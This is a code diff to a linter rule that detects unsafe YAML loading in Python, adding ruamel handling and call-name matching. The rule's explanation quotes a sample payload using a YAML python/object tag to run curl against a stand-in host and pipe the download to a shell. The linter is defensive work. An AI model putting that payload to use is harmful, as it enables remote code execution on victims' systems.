@@ -7,11 +7,13 @@ import ast
 import libcst as cst
 from tabguard.engine.fixes import expression_fix
 from tabguard.engine.rule import Invalid, Rule
+from tabguard.rules.injection import last_names
 from tabguard.rules.injection._strings import is_static, raised
 
 _LOAD = {"yaml.load": "yaml.safe_load", "yaml.load_all": "yaml.safe_load_all"}
 _ALWAYS_UNSAFE = {"yaml.unsafe_load": "yaml.safe_load", "yaml.unsafe_load_all": "yaml.safe_load_all",
                   "yaml.full_load": "yaml.safe_load", "yaml.full_load_all": "yaml.safe_load_all"}
+_RUAMEL = ("ruamel.yaml.YAML", "ruamel.yaml.main.YAML")
 _UNSAFE_LOADERS = frozenset({"Loader", "CLoader", "UnsafeLoader", "CUnsafeLoader", "FullLoader", "CFullLoader"})
 
 
@@ -36,6 +38,7 @@ class YamlUnsafeLoad(Rule):
     message = "`{callee}` loads YAML with {loader}, which can construct Python objects"
     placeholders = {"callee": "yaml.load", "loader": "an unsafe loader"}
     aliases = ("B506", "S506")
+    call_names = last_names((*_RUAMEL, *_LOAD, *_ALWAYS_UNSAFE))
     what = "`{callee}` parses YAML with {loader}; tags such as `!!python/object/apply` are honoured."
     why = (
         "`!!python/object/apply:os.system [\"curl evil.test/x | sh\"]` in a config upload, a CI file or "
@@ -77,7 +80,7 @@ class YamlUnsafeLoad(Rule):
 
     def visit_Call(self, node: ast.Call, ctx) -> None:
         callee = ctx.call_name(node) or ""
-        if callee in ("ruamel.yaml.YAML", "ruamel.yaml.main.YAML"):
+        if callee in _RUAMEL:
             typ = ctx.keyword(node, "typ")
             if typ is not None and ctx.constant_value(typ.value) in ("unsafe", "full"):
                 ctx.report(self, node, details={"callee": "YAML", "loader": f"typ={ctx.constant_value(typ.value)!r}"})
